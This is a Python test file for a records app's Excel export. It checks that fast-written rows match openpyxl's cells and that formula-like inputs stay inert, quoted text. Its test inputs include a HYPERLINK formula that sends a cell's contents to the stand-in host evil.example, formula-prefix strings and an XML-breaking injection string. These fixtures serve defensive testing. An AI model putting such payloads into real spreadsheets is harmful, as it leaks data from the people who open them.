"""``export.save_workbook`` writes the big sheets' rows without openpyxl's cell objects: the cells
must be those ``core.excel.append_text_row`` gives — value, type, quote prefix — whatever the
clerks typed."""

from __future__ import annotations

import datetime as dt
import decimal
import unicodedata

from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from motcua.core.excel import MAX_CELL_CHARS, append_text_row, text_cell
from motcua.registers.export import save_workbook

NASTY = [
    None,
    "",
    "Nguyễn Văn An",
    unicodedata.normalize("NFD", "Trần Thị Bích"),
    "  hai đầu có dấu cách  ",
    "   ",
    '=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
    "+84905123456",
    "-HK1",
    "@cán bộ",
    "\t=1+1",
    "a & b < c > d \" e ' f",
    "ký tự\x01 điều khiển\x0b\x1f và \ufffe",
    "x" * (MAX_CELL_CHARS + 10),
    ']]></t></is></c><c r="Z9"><f>1+1</f></c>',
    "số 0123",
    7,
    -3,
    0,
    10**30,
    1.5,
    float("nan"),
    True,
    False,
    dt.date(2026, 7, 1),
    dt.datetime(2026, 7, 1, 9, 30),
    decimal.Decimal("2.50"),
]


def _columns():
    # One column of every kind of value, one of texts only, one of ints with a blank.
    return [
        NASTY,
        [v if isinstance(v, str) else None for v in NASTY],
        [i if i % 3 else None for i in range(len(NASTY))],
    ]


def _reference(path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    ws.freeze_panes = "A2"
    append_text_row(ws, [text_cell(ws, h, font=Font(bold=True)) for h in ("A", "B", "C")])
    for row in zip(*_columns(), strict=True):
        append_text_row(ws, list(row))
    wb.save(path)


def _fast(path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    ws.freeze_panes = "A2"
    append_text_row(ws, [text_cell(ws, h, font=Font(bold=True)) for h in ("A", "B", "C")])
    save_workbook(wb, path, {"Dữ liệu": _columns()})


def _cells(path):
    ws = load_workbook(path)["Dữ liệu"]
    return ws.freeze_panes, [
        (c.coordinate, c.value, c.data_type, c.quotePrefix, c.font.b) for row in ws.iter_rows() for c in row
    ]


def test_the_fast_rows_are_the_cells_openpyxl_writes(tmp_path):
    _reference(tmp_path / "ref.xlsx")
    _fast(tmp_path / "fast.xlsx")
    reference, fast = _cells(tmp_path / "ref.xlsx"), _cells(tmp_path / "fast.xlsx")
    assert fast == reference
    # And what that means: no formula anywhere, formula-like texts quoted, numbers stay numbers.
    frozen, cells = fast
    assert frozen == "A2"
    assert all(dtype != "f" for _, _, dtype, _, _ in cells)
    by_ref = {ref: (value, dtype, quoted) for ref, value, dtype, quoted, _ in cells}
    assert by_ref["A8"] == (NASTY[6], "s", True)
    assert by_ref["A12"] == ("\t=1+1", "s", True)
    assert by_ref["A14"] == ("ký tự điều khiển và ", "s", False)
    assert len(by_ref["A15"][0]) == MAX_CELL_CHARS and by_ref["A15"][0].endswith("…")
    assert by_ref["A16"] == (NASTY[14], "s", False)
    assert by_ref["A18"] == (7, "n", False)
    assert by_ref["C3"] == (1, "n", False) and by_ref["C2"][0] is None


def test_a_carriage_return_is_kept_and_quoted(tmp_path):
    # openpyxl without lxml writes a bare CR that XML readers turn into LF; the fast rows keep it.
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    append_text_row(ws, ["đầu"])
    save_workbook(wb, tmp_path / "cr.xlsx", {"Dữ liệu": [["\r\ndòng", "a\rb"]]})
    cells = load_workbook(tmp_path / "cr.xlsx")["Dữ liệu"]
    assert (cells["A2"].value, cells["A2"].data_type, cells["A2"].quotePrefix) == ("\r\ndòng", "s", True)
    assert (cells["A3"].value, cells["A3"].quotePrefix) == ("a\rb", False)
